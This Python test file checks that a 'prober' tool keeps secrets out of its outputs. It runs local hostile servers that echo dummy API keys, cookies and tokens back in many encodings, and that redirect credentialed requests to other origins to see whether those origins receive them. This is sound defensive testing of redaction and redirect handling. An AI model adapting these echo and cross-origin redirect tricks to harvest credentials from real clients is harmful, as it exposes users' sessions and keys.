"""Tests that attack (issue 9, item 7): hostile servers, hostile catalogues and random credentials, end to end.

The tests run the real `prober` (a subprocess, as a user runs it; the guard and the property test run the same sweep
in-process) against real aiohttp servers on 127.0.0.1 over real TLS, and check what arrives where it matters: at
the receiving server (what a redirect target got) and in every output (stdout, stderr, each report file, `prober
render` of the JSON report in each format).

One hostile server plays every catalogue host, with one route per mode:

- `/echo`, `/bounce`: echo the key, a cookie, a percent-encoded cookie (decoded) and a captured sec_token back in
  every common encoding and every place an outcome keeps (finding 4);
- `/rpc`: a console RPC call (cookies, captured sec_token in the form, x-csrf-token from a cookie) redirected with
  each of 301/302/303/307/308 to http and to https on another origin, or to the same origin (finding 2);
- `/inject`: Markdown, HTML, mentions and terminal escape sequences in every server string (finding 7);
- `/bad`: undecodable bytes, NUL bytes and a bogus charset (finding 6);
- `/big`: a 250 KB vendor message and 256 KB of escapes (finding 8);
- `/words`: ordinary words handed out as a secToken, next to a jar of ordinary words (finding 5).

What leaked is judged by `leaks`, written independently of `prober.redact`: it decodes each output with the
standard library (percent, JSON and HTML escapes, up to three layers, `+` as space) and looks for any ten
consecutive characters of a secret, and for any eight consecutive bytes of it in base64 or base64url at every
alignment.
"""

from __future__ import annotations

import asyncio
import base64
import binascii
import html
import json
import re
import shutil
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any, NoReturn
from urllib.parse import parse_qs, quote, quote_plus, unquote, urlencode

import pytest
import yaml
from aiohttp import web
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from prober.redact import secret_like
from tests.cli import prober
from tests.conftest import HOSTS, Handler, Seen, Server

KEY = "sk-sp-ATTACKkey7Rq2Vw9Zx4Lm8Np3Ks6Tb"
# login_aliyunid_ticket: every symbol a URL, a form and HTML treat specially; `~` and `?` put `+` and `/` in its base64
TICKET = "Tk8/Rv2+Wq5=Xm3&Lp9~Zs7?Hd"
CSRF = "Cf4Gh7/Jk2Lm9+Np3Qr6Vx"  # login_aliyunid_csrf: goes into x-csrf-token and x-xsrf-token
PCT_RAW = "Pn4%2FJs8%2BKd6%3DPw2%26Ty9Lq"  # a cookie value as browsers store many: percent-encoded
PCT = unquote(PCT_RAW)
SEC_TOKEN = "St5/Gb1 Nc7=Ue3+Wq8Yh4Zr"  # handed out by the logged-in dashboard; the space tests form encoding
SECRETS = {"key": KEY, "cookie": TICKET, "pct": PCT, "token": SEC_TOKEN, "csrf": CSRF}

# What the dashboard hands out as the session's sec_token; a test may change it (the fixture puts it back).
SERVED = {"token": SEC_TOKEN}

LATER = int(time.time()) + 86_400
SECOND_PORT = 8444  # the catalogue's name for the second TLS server: same host, another port, another origin
HTTP_PORT = 80  # every host on plain http goes to the plain server


# --- what leaked ---------------------------------------------------------------------------------------------

_JSON_ESCAPE = re.compile(r"\\(u[0-9A-Fa-f]{4}|[\\/\"'])")  # left to right, so `\\u002F` is one layer off `/`
_BASE64_RUN = re.compile(r"[A-Za-z0-9+/_-]{12,}")
WINDOW = 10
BYTES_WINDOW = 8


def _decode_once(text: str) -> str:
    text = unquote(text)
    text = _JSON_ESCAPE.sub(lambda m: chr(int(m.group(1)[1:], 16)) if len(m.group(1)) == 5 else m.group(1), text)
    return html.unescape(text)


def _views(text: str) -> list[str]:
    """`text` as written and decoded up to three times (a report re-escapes what it quotes), `+` as space too."""
    views = [text]
    for _ in range(3):
        views.append(_decode_once(views[-1]))
    return list(dict.fromkeys([*views, *(v.replace("+", " ") for v in views)]))


def _base64_decodings(text: str) -> Iterator[bytes]:
    for found in _BASE64_RUN.findall(text):
        run = found.translate(str.maketrans("-_", "+/"))
        for offset in range(4):
            chunk = run[offset:]
            chunk = chunk[: len(chunk) // 4 * 4]
            if chunk:
                try:
                    yield base64.b64decode(chunk)
                except (binascii.Error, ValueError):
                    continue


def leaks(text: str, secret: str) -> list[str]:
    """The pieces of `secret` that `text` reveals, in any encoding `_views` undoes or in base64; [] if none."""
    found: list[str] = []
    windows = {secret[i : i + WINDOW] for i in range(max(len(secret) - WINDOW + 1, 1))}
    views = _views(text)
    for view in views:
        found += [w for w in windows if w in view]
    data = secret.encode()
    byte_windows = {data[i : i + BYTES_WINDOW] for i in range(max(len(data) - BYTES_WINDOW + 1, 1))}
    for view in views:
        for decoded in _base64_decodings(view):
            found += [f"base64 of {w!r}" for w in byte_windows if w in decoded]
    return sorted(set(found))


def _context(text: str, secret: str) -> str:
    """Where in `text` (or a decoding of it) a piece of `secret` shows, for the failure message."""
    for view in _views(text):
        for i in range(max(len(secret) - WINDOW + 1, 1)):
            at = view.find(secret[i : i + WINDOW])
            if at >= 0:
                return view[max(at - 120, 0) : at + 120]
    data = secret.encode()
    for view in _views(text):
        for run in _BASE64_RUN.findall(view):
            windows = [data[i : i + BYTES_WINDOW] for i in range(max(len(data) - BYTES_WINDOW + 1, 1))]
            if any(w in decoded for decoded in _base64_decodings(run) for w in windows):
                at = view.find(run)
                return f"base64 in {view[max(at - 80, 0) : at + len(run) + 80]!r}"
    return "?"


def assert_no_leak(outputs: dict[str, str], secrets: dict[str, str]) -> None:
    for name, text in outputs.items():
        for what, secret in secrets.items():
            found = leaks(text, secret)
            assert not found, f"{what} leaked into {name}: {found[:3]} in {_context(text, secret)!r}"


# --- encodings a server re-encodes a secret in ---------------------------------------------------------------


def _pct_mixed(value: str) -> str:
    """Partly percent-encoded, hex digits in mixed case: every symbol and every third character escaped."""
    out = []
    for n, ch in enumerate(value):
        if ch.isalnum() and n % 3:
            out.append(ch)
        else:
            out.append("".join(f"%{b:02X}" if n % 2 else f"%{b:02x}" for b in ch.encode()))
    return "".join(out)


def _json_u(value: str, upper: bool) -> str:
    return "".join(ch if ch.isalnum() else (f"\\u{ord(ch):04X}" if upper else f"\\u{ord(ch):04x}") for ch in value)


_NAMED = {"/": "&sol;", "&": "&amp;", "+": "&plus;", "=": "&equals;", " ": "&#32;", "-": "&#45;"}


def _blob(value: str, alignment: int) -> bytes:
    """A longer base64 payload (a session document) holding `value` at byte offset `alignment` mod 3."""
    return b'{"v":1,"pad":"' + b"x" * alignment + b'","t":"' + value.encode() + b'","exp":1767225600}'


def _base64(alignment: int, url: bool) -> Callable[[str], str]:
    if url:
        return lambda s: base64.urlsafe_b64encode(_blob(s, alignment)).decode().rstrip("=")
    return lambda s: base64.b64encode(_blob(s, alignment)).decode()


ENCODINGS: dict[str, Callable[[str], str]] = {
    "raw": lambda s: s,
    "pct-upper": lambda s: quote(s, safe=""),
    "pct-lower": lambda s: "".join(f"%{b:02x}" for b in s.encode()),
    "pct-mixed": _pct_mixed,
    "form": quote_plus,
    "json-slash": lambda s: s.replace("/", "\\/"),
    "json-u-upper": lambda s: _json_u(s, upper=True),
    "json-u-lower": lambda s: _json_u(s, upper=False),
    "html-named": lambda s: "".join(_NAMED.get(ch, ch) for ch in s),
    "html-decimal": lambda s: "".join(ch if ch.isalnum() else f"&#{ord(ch)};" for ch in s),
    "html-hex": lambda s: "".join(ch if ch.isalnum() else f"&#x{ord(ch):X};" for ch in s),
    **{f"base64-{n}": _base64(n, url=False) for n in range(3)},
    **{f"base64url-{n}": _base64(n, url=True) for n in range(3)},
}


# Forms a client keeps as they are in the URL it follows from a Location. In a JSON escape there the client
# percent-encodes the backslash (two layers): see test_an_escaped_secret_in_a_followed_redirect_url_is_scrubbed.
URL_SAFE = [name for name in ENCODINGS if not name.startswith(("json", "html"))]


# --- the hostile servers -------------------------------------------------------------------------------------

# The hostile server's modes: path -> handler, served on every catalogue host (see `routes`).
MODES: dict[str, Handler] = {}


def mode(path: str) -> Callable[[Handler], Handler]:
    def register(handler: Handler) -> Handler:
        MODES[path] = handler
        return handler

    return register


def _recording(handler: Handler, seen: Seen) -> Handler:
    """`handler`, noting every request it gets (scheme, host, port, path, query, headers, body) in `seen`."""

    async def record(request: web.Request) -> Any:
        body = await request.read()
        seen.requests.append(
            {
                "scheme": request.scheme,
                "host": (request.host or "").split(":")[0],
                "port": request.url.port,
                "path": request.path,
                "query": request.rel_url.raw_query_string,
                "method": request.method,
                "headers": dict(request.headers),
                "body": body.decode("utf-8", "replace"),
            }
        )
        return await handler(request)

    return record


@pytest.fixture
def plain_http() -> Iterator[Callable[[dict[str, Handler]], Server]]:
    """Like `serve`, over plain http: where a redirect to `http://` lands."""
    stops: list[Callable[[], None]] = []

    def start(routes: dict[str, Handler]) -> Server:
        seen = Seen()

        async def dispatch(request: web.Request) -> Any:
            handler = routes.get(f"{(request.host or '').split(':')[0]}{request.path}")
            return web.Response(status=404, text="no route") if handler is None else await handler(request)

        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", dispatch)
        loop = asyncio.new_event_loop()
        ready = threading.Event()
        ports: list[int] = []
        runner = web.AppRunner(app, access_log=None)

        def main() -> None:
            asyncio.set_event_loop(loop)

            async def begin() -> None:
                await runner.setup()
                site = web.TCPSite(runner, "127.0.0.1", 0)
                await site.start()
                ports.append(int(runner.addresses[0][1]))

            loop.run_until_complete(begin())
            ready.set()
            loop.run_forever()
            loop.run_until_complete(runner.cleanup())
            loop.close()

        thread = threading.Thread(target=main, daemon=True)
        thread.start()
        assert ready.wait(10)

        def stop() -> None:
            loop.call_soon_threadsafe(loop.stop)
            thread.join(10)

        stops.append(stop)
        return Server(port=ports[0], ca_path=Path(), seen=seen)

    yield start
    for stop in stops:
        stop()


def _raw(request: web.Request, response: bytes) -> NoReturn:
    """Answer with bytes aiohttp's own writer refuses to send (control characters, invalid UTF-8): write them to
    the transport and end the connection."""
    assert request.transport is not None
    request.transport.write(response)
    request.transport.close()
    raise asyncio.CancelledError


def _received(headers: Mapping[str, str], body: str) -> dict[str, str]:
    """The secrets a request carried, read as a server reads them (the percent-encoded cookie decoded)."""
    found: dict[str, str] = {}
    headers = {k.lower(): v for k, v in headers.items()}
    authorization = headers.get("authorization", "")
    if authorization.startswith("Bearer "):
        found["key"] = authorization.removeprefix("Bearer ")
    for name in ("x-api-key", "x-dashscope-api-key"):
        if name in headers:
            found["key"] = headers[name]
    cookies = dict(part.strip().split("=", 1) for part in headers.get("cookie", "").split(";") if "=" in part)
    for name, what in (("login_aliyunid_ticket", "cookie"), ("pct", "pct"), ("login_aliyunid_csrf", "csrf")):
        if name in cookies:
            found[what] = unquote(cookies[name]) if name == "pct" else cookies[name]
    form = parse_qs(body)
    if form.get("sec_token"):
        found["token"] = form["sec_token"][0]
    return found


def _echo_response(form: str, kind: str, illegal_names: bool = False) -> web.Response:
    """One encoded form of a secret in every place an outcome keeps: body (text, or JSON with the vendor error
    nested), reason phrase, diagnostic and rate-limit headers, Location, Set-Cookie value and name."""
    if kind == "json":
        body = (
            '{"data":{"result":null,"error":{"success":false,"code":"Echo.' + form + '","message":"echo ' + form
            + '","detail":{"nested":[{"value":"' + form + '"}]}}}}'
        )  # fmt: skip
        content_type = "application/json"
    else:
        body = f"Invalid credential: {form}\n"
        content_type = "text/plain"
    response = web.Response(status=401, text=body, content_type=content_type, reason=f"Denied {form}")
    response.headers["x-request-id"] = form
    response.headers["x-dashscope-echo"] = form
    response.headers["eagleeye-traceid"] = form
    response.headers["x-ratelimit-remaining"] = form
    response.headers["Location"] = f"/landing?v={form}"
    response.headers.add("Set-Cookie", f"echo={form}; Path=/")
    if re.fullmatch(r"[A-Za-z0-9_\-]+", form) or illegal_names:  # as a cookie name too
        response.headers.add("Set-Cookie", f"{form}=1; Path=/")
    return response


@mode("/echo")
async def _echo(request: web.Request) -> web.StreamResponse:
    body = await request.read()
    which, enc, kind = request.query["s"], request.query["enc"], request.query.get("kind", "json")
    secret = _received(request.headers, body.decode()).get(which)
    if secret is None:  # the echo is genuine: a server can only echo what it received
        return web.Response(status=418, text=f"did not receive {which}")
    form = ENCODINGS[enc](secret)
    if "decoded" in request.query:  # shown as a form decoder reads it: `+` is a space
        form = form.replace("+", " ")
    return _echo_response(form, kind, illegal_names="illegal-names" in request.query)


@mode("/bounce")
async def _bounce(request: web.Request) -> web.StreamResponse:
    body = await request.read()
    secret = _received(request.headers, body.decode()).get(request.query["s"])
    if secret is None:
        return web.Response(status=418, text="nothing to bounce")
    chosen = request.query.get("encodings", ",".join(URL_SAFE)).split(",")
    # A `#` would end the query: the landing would get, and echo, a prefix of the secret, which no redactor can
    # know (the echo route covers such forms in every other place).
    forms = {name: ENCODINGS[name](secret) for name in chosen}
    query = "&".join(f"{name}={form}" for name, form in forms.items() if "#" not in form)
    return web.Response(status=302, headers={"Location": f"/landing?{query}"}, text="moved")


@mode("/landing")
async def _landing(request: web.Request) -> web.StreamResponse:
    # The query as it came (aiohttp's `query_string` would decode it, `+` to space): see
    # test_a_form_decoded_base64_secret_is_scrubbed for what such a server shows.
    return web.Response(text=f"landed with {request.rel_url.raw_query_string}")


@mode("/dashboard")
async def _dashboard(request: web.Request) -> web.StreamResponse:
    """A logged-in console page embeds the sec_token (docs/vendor.md#sec-token); signed out it redirects."""
    if request.cookies.get("login_aliyunid_ticket") != TICKET:
        raise web.HTTPFound("https://login.example.test/login")
    token = SERVED["token"]
    return web.Response(
        text=f'<html><script>window.__CONSOLE = {{secToken: "{token}"}};</script>logged in</html>',
        content_type="text/html",
    )


@mode("/rpc")
async def _rpc(request: web.Request) -> web.StreamResponse:
    """A console RPC host that redirects, with the status asked for, to the target asked for; the target's query
    names the probe, so the receiving server can tell which request brought what."""
    host = (request.host or "").split(":")[0]
    path = f"/landing?{urlencode({'id': request.query['id']})}"
    target = {
        "same": path,
        "https-other": f"https://other.example.test{path}",
        "http-other": f"http://other.example.test{path}",
        "http-same": f"http://{host}{path}",
        "https-port": f"https://{host}:{SECOND_PORT}{path}",
    }[request.query["to"]]
    return web.Response(status=int(request.query["status"]), headers={"Location": target}, text="moved")


def routes(seen: Seen) -> dict[str, Handler]:
    """Every mode on every catalogue host, keyed by host + path as `serve` dispatches, each request noted."""
    return {f"{host}{path}": _recording(handler, seen) for host in HOSTS for path, handler in MODES.items()}


class Hostile:
    """The hostile servers: every *.example.test name on one TLS port (`main`), the same names on another TLS port
    (`second`: same host, another origin) and over plain http (`plain`); `seen` holds every request any of the three
    received, as the server read it."""

    def __init__(self, main: Server, second: Server, plain: Server, seen: Seen) -> None:
        self.main, self.second, self.plain, self.seen = main, second, plain, seen

    def flags(self) -> list[str]:
        return [
            "--connect-to",
            f":{SECOND_PORT}:127.0.0.1:{self.second.port}",
            "--connect-to",
            f":{HTTP_PORT}:127.0.0.1:{self.plain.port}",
            "--connect-to",
            self.main.connect_to,
            "--cacert",
            str(self.main.ca_path),
        ]

    def requests(self) -> list[dict[str, Any]]:
        return self.seen.requests

    def __repr__(self) -> str:  # short: hypothesis prints the arguments of a failing example
        return f"Hostile(ports {self.main.port}, {self.second.port}, {self.plain.port})"


@pytest.fixture
def hostile(
    serve: Callable[[dict[str, Handler]], Server], plain_http: Callable[[dict[str, Handler]], Server]
) -> Hostile:
    seen = Seen()
    SERVED["token"] = SEC_TOKEN
    return Hostile(serve(routes(seen)), serve(routes(seen)), plain_http(routes(seen)), seen)


# --- running prober ------------------------------------------------------------------------------------------


def _jar(path: Path, cookies: dict[str, str]) -> Path:
    path.write_text("".join(f".example.test\tTRUE\t/\tTRUE\t{LATER}\t{n}\t{v}\n" for n, v in cookies.items()))
    return path


JAR = {"login_aliyunid_ticket": TICKET, "login_aliyunid_csrf": CSRF, "pct": PCT_RAW}


@dataclass
class Ran:
    result: CompletedProcess[str]
    out: Path

    @property
    def json_path(self) -> Path:
        (path,) = self.out.glob("*.json")
        return path

    def report(self) -> dict[str, Any]:
        data: dict[str, Any] = json.loads(self.json_path.read_text())
        return data

    def results(self) -> dict[str, dict[str, Any]]:
        return {r["probe"]["id"]: r["outcome"] for r in self.report()["results"]}

    def markdown(self) -> str:
        (path,) = self.out.glob("*.md")
        return path.read_text()

    def markdown_section(self, probe_id: str) -> str:
        """The Markdown report's section for one probe, up to the next."""
        text = self.markdown()
        start = text.index(f"### `{probe_id}`")
        end = text.find("\n### ", start + 1)
        return text[start : end if end >= 0 else len(text)]

    def outputs(self) -> dict[str, str]:
        """Everything the run put anywhere: stdout, stderr, every report file, `prober render` in each format."""
        found = {"stdout": self.result.stdout, "stderr": self.result.stderr}
        found |= {p.name: p.read_text() for p in sorted(self.out.iterdir())}
        for fmt in ("md", "json", "junit"):
            rendered = prober("render", str(self.json_path), "--format", fmt)
            assert rendered.returncode == 0, rendered.stderr
            found[f"render --format {fmt}"] = rendered.stdout
            found[f"render --format {fmt} (stderr)"] = rendered.stderr
        return found


def run(
    tmp_path: Path,
    catalogue: dict[str, Any] | str,
    hostile: Hostile,
    *extra: str,
    jar: dict[str, str] = JAR,
    env: dict[str, str] | None = None,
) -> Ran:
    text = catalogue if isinstance(catalogue, str) else yaml.safe_dump(catalogue, sort_keys=False, width=10_000)
    path = tmp_path / "attack.yaml"
    path.write_text(text)
    out = tmp_path / "reports"
    if out.exists():
        shutil.rmtree(out)
    result = prober(
        "run",
        str(path),
        "--cookies",
        str(_jar(tmp_path / "cookies.txt", jar)),
        "--cookie-domain",
        "example.test",
        "--allow-key-host",
        "example.test",
        *hostile.flags(),
        "--out",
        str(out),
        "--format",
        "md,json,junit",
        *extra,
        env={"DASHSCOPE_API_KEY": KEY, **(env or {})},
    )
    assert result.returncode in (0, 1), result.stdout + result.stderr
    return Ran(result, out)


def _probe(ident: str, url: str, auth: Any = "cookies", **more: Any) -> dict[str, Any]:
    region = "intl"
    surface = "api" if auth != "cookies" else "console"
    return {
        "id": ident,
        "description": f"hostile {ident}",
        "url": url,
        "auth": auth,
        **more,
        "tags": {"region": region, "surface": surface},
        "source": "tests/test_attack.py",
    }


DASHBOARD = _probe(
    "dashboard",
    "https://console.example.test/dashboard",
    capture={
        # The shipped catalogue's patterns (probes.yaml, dashboard-intl): docs/vendor.md#sec-token, #csrf-headers
        "sec_token": [{"body": '(?:SEC_TOKEN|secToken|sec_token)"?\\s*[:=]\\s*["\']([^"\']+)["\']'}],
        "csrf": [{"cookie": "login_aliyunid_csrf"}, {"cookie": "csrf"}],
    },
)


def _echo_probe(which: str, path: str, query: dict[str, str], ident: str) -> dict[str, Any]:
    url = f"https://{'api' if which == 'key' else 'console'}.example.test{path}?{urlencode({'s': which, **query})}"
    if which == "key":
        return _probe(ident, url, auth={"key": "bearer"})
    if which == "token":
        return _probe(ident, url, method="POST", body={"form": {"sec_token": "{{ sec_token }}"}}, needs=["dashboard"])
    return _probe(ident, url)


def echo_catalogue() -> dict[str, Any]:
    probes = [DASHBOARD]
    for which in ("key", "cookie", "pct", "token"):
        for enc in ENCODINGS:
            for kind in ("json", "text"):
                probes.append(_echo_probe(which, "/echo", {"enc": enc, "kind": kind}, f"echo-{which}-{enc}-{kind}"))
        probes.append(_echo_probe(which, "/bounce", {}, f"bounce-{which}"))
    return {"version": 1, "probes": probes}


# --- a. echo in every encoding -------------------------------------------------------------------------------


def test_no_form_of_any_echoed_secret_reaches_any_output(hostile: Hostile, tmp_path: Path) -> None:
    ran = run(tmp_path, echo_catalogue(), hostile)
    results = ran.results()
    # The echo is genuine: every secret reached the server, and every echo probe was answered with its echo
    # (418 would mean the server never received the secret it was to echo).
    received = {
        k: v for r in hostile.requests() for k, v in _received(r["headers"], r["body"]).items() if v == SECRETS.get(k)
    }
    assert set(received) >= {"key", "cookie", "pct", "token"}
    statuses = {ident: outcome["status"] for ident, outcome in results.items()}
    assert {s for i, s in statuses.items() if i.startswith("echo-")} == {401}, statuses
    assert {s for i, s in statuses.items() if i.startswith("bounce-")} == {200}, statuses
    outputs = ran.outputs()
    assert len(outputs) == 11
    assert_no_leak(outputs, {k: SECRETS[k] for k in ("key", "cookie", "pct", "token")} | {"pct-raw": PCT_RAW})
    assert "[REDACTED]" in outputs[ran.json_path.name]


def test_an_escaped_secret_in_a_followed_redirect_url_is_scrubbed(hostile: Hostile, tmp_path: Path) -> None:
    """A redirect to `/landing?state=Tk8\\/Rv2…` (a JSON-escaped cookie value in the URL, as a server writes a JSON
    state parameter): the prober follows it, yarl percent-encodes the backslash, and the hop's URL is kept as
    `state=Tk8%5C/Rv2…`, two layers of escapes over the secret."""
    escaped = ",".join(name for name in ENCODINGS if name.startswith(("json", "html")))
    probe = _echo_probe("cookie", "/bounce", {"encodings": escaped}, "bounce-escaped")
    ran = run(tmp_path, {"version": 1, "probes": [probe]}, hostile)
    assert ran.results()["bounce-escaped"]["status"] == 200
    assert_no_leak(ran.outputs(), {"cookie": TICKET})


def test_a_secret_echoed_as_an_illegal_cookie_name_stays_out_of_stderr(hostile: Hostile, tmp_path: Path) -> None:
    """The server sets a cookie named after the JSON-escaped ticket (`Tk8\\u002FRv2…=1`): aiohttp refuses the name
    and logs it, and the log line is printed as it is."""
    probe = _echo_probe("cookie", "/echo", {"enc": "json-u-upper", "kind": "text", "illegal-names": "1"}, "echo-name")
    ran = run(tmp_path, {"version": 1, "probes": [probe]}, hostile)
    assert ran.results()["echo-name"]["status"] == 401
    assert_no_leak({"stderr": ran.result.stderr}, {"cookie": TICKET})


def test_a_token_captured_later_is_not_left_in_an_answer_kept_earlier(hostile: Hostile, tmp_path: Path) -> None:
    """Two logged-in console pages embed the same sec_token; the one that captures it runs second (it needs the
    first, as any chain may). The first page's excerpt must not keep the token."""
    earlier = _probe("console-home", "https://console.example.test/dashboard?page=home")
    capturing = {**DASHBOARD, "needs": ["console-home"]}
    ran = run(tmp_path, {"version": 1, "probes": [earlier, capturing]}, hostile)
    results = ran.results()
    assert results["dashboard"]["captured"] == ["csrf", "sec_token"]
    assert results["console-home"]["status"] == 200
    assert_no_leak(ran.outputs(), {"token": SEC_TOKEN})


def test_a_secret_ending_in_a_backslash_is_scrubbed(hostile: Hostile, tmp_path: Path) -> None:
    """A key (any shape is allowed) ending in `\\`, echoed verbatim inside a JSON string: `"code":"Echo.Zx9…\\"`."""
    key = "Zx9/Qw3+Er5=Ty7Ui1Op\\"
    probe = _echo_probe("key", "/echo", {"enc": "raw", "kind": "json"}, "echo-backslash")
    ran = run(tmp_path, {"version": 1, "probes": [probe]}, hostile, env={"DASHSCOPE_API_KEY": key})
    assert ran.results()["echo-backslash"]["status"] == 401
    assert_no_leak(ran.outputs(), {"key": key})


def test_a_form_decoded_base64_secret_is_scrubbed(hostile: Hostile, tmp_path: Path) -> None:
    """The ticket's base64 (with a `+` in it, from its `~`) in a query, shown by a server that form-decodes it."""
    form = ENCODINGS["base64-1"](TICKET)
    assert "+" in form
    probe = _echo_probe("cookie", "/echo", {"enc": "base64-1", "kind": "text", "decoded": "1"}, "echo-decoded")
    ran = run(tmp_path, {"version": 1, "probes": [probe]}, hostile)
    assert ran.results()["echo-decoded"]["status"] == 401
    assert_no_leak(ran.outputs(), {"cookie": TICKET})


def _unredacted(hostile: Hostile, catalogue: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The outcomes of `catalogue`, as the JSON report holds them, from a sweep whose redactor knows no secret."""
    from prober import routing
    from prober.catalogue import parse
    from prober.cookies import Cookie, Jar
    from prober.credentials import Credentials
    from prober.redact import Redactor, Secret
    from prober.runner import Options, run
    from prober.serial import dump_outcome

    probes = parse(yaml.safe_dump(catalogue, sort_keys=False, width=10_000), "guard.yaml").probes
    jar = Jar("test", (Cookie("login_aliyunid_ticket", Secret(TICKET), "example.test", host_only=False, secure=True),))
    options = Options(connect_to=(routing.parse(hostile.main.connect_to),), cacert=hostile.main.ca_path)
    outcomes = asyncio.run(run(probes, Credentials(jar=jar), options, Redactor()))
    return {o.probe_id: dump_outcome(o) for o in outcomes}


def test_the_echo_is_genuine_and_the_leak_detector_sees_every_form_in_every_place(hostile: Hostile) -> None:
    """Guard against a vacuous pass: with a redactor that knows no secret, every encoding of the cookie reaches
    every place an outcome keeps, and `leaks` finds it there."""
    probes = [
        _echo_probe("cookie", "/echo", {"enc": enc, "kind": kind}, f"{enc}-{kind}")
        for enc in ENCODINGS
        for kind in ("json", "text")
    ]
    probes.append(_echo_probe("cookie", "/bounce", {}, "bounce"))
    outcomes = _unredacted(hostile, {"version": 1, "probes": probes})
    for enc, encode in ENCODINGS.items():
        form = encode(TICKET)
        for kind in ("json", "text"):
            outcome = outcomes[f"{enc}-{kind}"]
            (hop,) = outcome["hops"]
            places = {
                "body": outcome["body_excerpt"],
                "reason": hop["reason"],
                "location": hop["location"],
                "headers": json.dumps(outcome["diagnostics"] + outcome["rate_limits"]),
            }
            if kind == "json":
                places["vendor message"] = outcome["vendor_error"]["message"]
                places["vendor code"] = outcome["vendor_error"]["code"]
            if re.fullmatch(r"[A-Za-z0-9_\-]+", form):
                places["set-cookie"] = " ".join(hop["cookies_set"])
            for place, text in places.items():
                assert leaks(text, TICKET), (enc, kind, place, text)
    assert leaks(outcomes["bounce"]["final_url"], TICKET)


# --- b. redirects to another origin --------------------------------------------------------------------------

REDIRECTS = (301, 302, 303, 307, 308)
TARGETS = ("same", "https-other", "http-other", "http-same", "https-port")
KEY_HEADERS = ("authorization", "x-api-key", "x-dashscope-api-key")
CSRF_HEADERS = ("x-csrf-token", "x-xsrf-token")


def _rpc_probes(status: int, to: str) -> list[dict[str, Any]]:
    """A console RPC call as the shipped catalogue makes it (probes.yaml, console-rpc-intl-token: cookies, the
    captured sec_token in the form, the CSRF cookie in x-xsrf-token and x-csrf-token), and a key call."""
    console = _probe(
        f"rpc-{status}-{to}",
        f"https://console.example.test/rpc?{urlencode({'status': status, 'to': to, 'id': f'rpc-{status}-{to}'})}",
        method="POST",
        headers={
            "Accept": "*/*",
            "X-Requested-With": "XMLHttpRequest",
            "x-xsrf-token": "{{ csrf? }}",
            "x-csrf-token": "{{ csrf? }}",
        },
        body={
            "form": {
                "params": {"Api": "zeldaEasy.broadscope-bailian.codingPlan.queryCodingPlanInstanceInfoV2", "V": "1.0"},
                "region": "ap-southeast-1",
                "sec_token": "{{ sec_token }}",
            }
        },
        needs=["dashboard"],
    )
    key = _probe(
        f"key-{status}-{to}",
        f"https://api.example.test/rpc?{urlencode({'status': status, 'to': to, 'id': f'key-{status}-{to}'})}",
        auth={"key": ["bearer", "x-api-key", "x-dashscope-api-key"]},
        method="POST",
        body={"json": {"model": "qwen-turbo", "max_tokens": 1}},
    )
    return [console, key]


def redirect_catalogue() -> dict[str, Any]:
    probes = [DASHBOARD]
    for status in REDIRECTS:
        for to in TARGETS:
            probes += _rpc_probes(status, to)
    return {"version": 1, "probes": probes}


def _landings(hostile: Hostile) -> dict[str, list[dict[str, Any]]]:
    """Requests that reached a redirect target, by the probe id in their query."""
    found: dict[str, list[dict[str, Any]]] = {}
    for request in hostile.requests():
        if request["path"] == "/landing":
            found.setdefault(parse_qs(request["query"])["id"][0], []).append(request)
    return found


def test_a_redirect_to_another_origin_receives_no_credential(hostile: Hostile, tmp_path: Path) -> None:
    """Asserted where it matters, at the receiving server, for each redirect status and each kind of target."""
    run(tmp_path, redirect_catalogue(), hostile)
    landings = _landings(hostile)
    for status in REDIRECTS:
        for to in TARGETS:
            console_id, key_id = f"rpc-{status}-{to}", f"key-{status}-{to}"
            # Followed: one landing per console probe, one per key style.
            assert len(landings.get(console_id, [])) == 1, console_id
            assert len(landings.get(key_id, [])) == 3, key_id
            if to == "same":
                continue
            for request in landings[console_id] + landings[key_id]:
                # No Cookie, no key header, no CSRF header, and no piece of any secret anywhere in the request (the
                # key call's JSON body holds none, so it may follow a 307 or 308).
                headers = {k.lower() for k in request["headers"]}
                assert not headers & {"cookie", *KEY_HEADERS, *CSRF_HEADERS}, request
                assert not [w for w, secret in SECRETS.items() if leaks(json.dumps(request), secret)], request
            assert landings[console_id][0]["body"] == ""  # no form with the sec_token, even after 307 or 308


def test_a_redirect_within_the_origin_carries_every_credential_again(hostile: Hostile, tmp_path: Path) -> None:
    """Console flows need it: the cookies, the CSRF headers and, where the method keeps its body (307, 308), the
    form with the sec_token, all arrive again at the same origin."""
    run(tmp_path, redirect_catalogue(), hostile)
    landings = _landings(hostile)
    for status in REDIRECTS:
        (request,) = landings[f"rpc-{status}-same"]
        received = _received(request["headers"], request["body"])
        assert received.get("cookie") == TICKET and received.get("csrf") == CSRF, request
        headers = {k.lower(): v for k, v in request["headers"].items()}
        assert headers["x-csrf-token"] == headers["x-xsrf-token"] == CSRF
        assert received.get("token") == (SEC_TOKEN if status in (307, 308) else None), request
        assert {_received(r["headers"], r["body"]).get("key") for r in landings[f"key-{status}-same"]} == {KEY}


def test_each_hop_says_what_was_sent_and_what_was_withheld(hostile: Hostile, tmp_path: Path) -> None:
    ran = run(tmp_path, redirect_catalogue(), hostile)
    results = ran.results()
    styles = (("bearer", "Authorization"), ("x-api-key", "x-api-key"), ("x-dashscope-api-key", "X-DashScope-API-Key"))
    for status in REDIRECTS:
        body = ("body",) if status in (307, 308) else ()
        for to in TARGETS:
            console_id, key_id = f"rpc-{status}-{to}", f"key-{status}-{to}"
            first, second = results[console_id]["hops"]
            assert set(first["sent"]) == {"x-csrf-token", "x-xsrf-token", "body"}, first
            assert "login_aliyunid_ticket" in first["cookies_sent"], first
            if to == "same":
                assert "withheld" not in second, second
                assert second["cookies_sent"], second
                assert set(second["sent"]) == {"x-csrf-token", "x-xsrf-token", *body}, second
            else:
                assert second["cookies_sent"] == [] and "sent" not in second, second
                assert set(second["withheld"]) == {"Cookie", "x-csrf-token", "x-xsrf-token", *body}, second
                # The Markdown says it too, on the probe's own lines.
                section = ran.markdown_section(console_id)
                assert "- Hop 2: withheld (another origin or not https) `Cookie`, " in section, section
            for style, header in styles:
                first, second = results[f"{key_id}/{style}"]["hops"]
                assert first["key_sent"] is True
                assert second["key_sent"] is (to == "same")
                assert second.get("withheld", []) == ([] if to == "same" else [header]), second


